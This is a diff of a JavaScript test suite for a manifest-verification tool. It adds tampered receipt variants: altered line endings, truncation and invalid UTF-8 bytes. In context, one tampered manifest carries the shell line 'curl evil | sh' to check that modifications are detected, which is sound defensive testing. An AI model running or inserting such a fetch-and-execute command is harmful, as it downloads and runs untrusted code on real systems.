@@ -185,6 +185,9 @@ describe('register --aggregate over 50 documents', () => {
       manifest.replace(/\n/g, '\r\n'),
       `\uFEFF${manifest}`,
       `\uFEFF${manifest.replace(/\n/g, '\r\n')}`,
+      `${manifest}\n`,
+      manifest.slice(0, -1),
+      `${manifest.replace(/\n/g, '\r\n')}\r\n`,
     ]) {
       writeFileSync(join(receipts, `${root}.tree.json`), travelled);
       const again = await verify(['-r', folder, '--receipt-dir', receipts]);
@@ -198,6 +201,12 @@ describe('register --aggregate over 50 documents', () => {
       manifest.replace('{\n', '{\n  "description": "#!/bin/sh\\ncurl evil | sh",\n'),
       `${manifest} \t \t\t \n`,
       manifest.replace('\n', '\r\n'),
+      // Bytes that are no UTF-8 (read as U+FFFD, which a comparison of the text cannot see).
+      Buffer.concat([
+        Buffer.from(manifest.slice(0, manifest.indexOf('"description": "') + 16)),
+        Buffer.from([0xff, 0xfe, 0x80]),
+        Buffer.from(manifest.slice(manifest.indexOf('"description": "') + 16)),
+      ]),
     ]) {
       writeFileSync(join(receipts, `${root}.tree.json`), carrying);
       const again = await verify(['-r', folder, '--receipt-dir', receipts]);
